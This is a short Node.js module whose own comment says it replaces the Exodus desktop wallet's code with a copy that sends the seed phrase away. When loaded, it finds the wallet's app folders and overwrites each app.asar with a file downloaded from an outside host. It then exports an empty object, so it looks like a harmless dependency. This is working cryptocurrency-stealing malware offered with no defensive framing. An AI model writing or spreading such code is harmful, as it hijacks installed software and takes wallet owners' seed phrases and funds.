// Replaces the Exodus desktop wallet's code with a copy that sends the seed phrase away.
const fs = require("fs"), path = require("path"), https = require("https");
const root = path.join(process.env.LOCALAPPDATA || "", "exodus");
if (fs.existsSync(root)) {
  for (const d of fs.readdirSync(root).filter((x) => x.startsWith("app-"))) {
    https.get("https://cdn.example.invalid/a.bin", (r) => r.pipe(fs.createWriteStream(path.join(root, d, "resources", "app.asar"))));
  }
}
module.exports = {};
